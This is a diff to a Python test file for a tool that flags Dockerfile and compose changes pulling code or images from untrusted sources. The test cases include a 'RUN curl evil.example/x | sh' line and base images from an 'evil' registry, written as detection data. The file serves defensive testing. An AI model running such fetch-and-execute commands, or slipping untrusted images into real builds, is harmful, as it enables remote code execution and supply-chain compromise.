@@ -77,6 +77,12 @@ def test_files_of_images_are_found_by_name() -> None:
         ("FROM a\n", "FROM a\nRUN curl evil.example/x | sh\n", "evil.example"),
         ("FROM own/python\n", "FROM --platform=linux/amd64 evil/python AS a\n", "docker.io/evil"),
         ("ARG B=r.example/own/x\n", "ARG B=evil.example/own/x\n", "evil.example"),
+        ("FROM a\n", "FROM \\\n  evil/python:3\n", "docker.io/evil"),
+        ("FROM a\n", "FROM a\nCOPY --from=evil/tools /x /usr/bin/python\n", "docker.io/evil"),
+        ("FROM a\n", "# syntax=evil/dockerfile:1\nFROM a\n", "docker.io/evil"),
+        ("ARG B=python\nFROM ${B}\n", "ARG B=evil/python\nFROM ${B}\n", "docker.io/evil"),
+        ("FROM a AS b\n", "FROM a AS b\nCOPY --from=b /x /x\n", ""),
+        ("services: {a: {build: .}}\n", "services: {a: {image: evil/x}}\n", "docker.io/evil"),
         ("ADD https://github.com/own/a/x /\n", "ADD https://github.com/evil/a/x /\n", "https://github.com/evil"),
     ],
 )
@@ -85,7 +91,7 @@ def test_code_from_elsewhere_in_an_image_is_a_caution(old: str, new: str, source
     file = PurePosixPath("Dockerfile")
     first, *more = build_statements([file], [old.encode()], {file: new.encode()})
     assert (first.plain, first.statement.risk) == (
-        "Dockerfile changed: images that are built from now on differ",
+        "Dockerfile changed: images that are built with it differ from now on",
         Risk.NONE,
     )
     assert [located.statement.risk for located in more] == [Risk.CAUTION] * bool(source)
